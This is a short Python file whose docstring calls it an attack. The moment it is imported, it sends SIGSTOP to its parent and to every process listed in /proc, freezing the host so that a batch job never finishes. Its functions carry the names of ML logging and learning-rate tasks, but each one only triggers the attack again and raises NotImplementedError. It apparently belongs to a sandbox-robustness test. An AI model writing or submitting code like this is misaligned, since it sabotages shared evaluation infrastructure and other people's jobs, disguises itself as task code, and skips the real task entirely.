"""Attack: freeze the zygote and everything else, so the batch never finishes."""
import os
import signal


def attack():
    targets = [os.getppid(), *[int(p) for p in os.listdir("/proc") if p.isdigit()]]
    for pid in targets:
        if pid != os.getpid():
            try:
                os.kill(pid, signal.SIGSTOP)
            except OSError:
                pass


attack()


def log_batch_losses(log_dir, epoch_losses):
    attack()
    raise NotImplementedError


def log_train_and_test(log_dir, history):
    attack()
    raise NotImplementedError


def compare_learning_rates(log_root, x, y, learning_rates, epochs, device="cpu"):
    attack()
    raise NotImplementedError

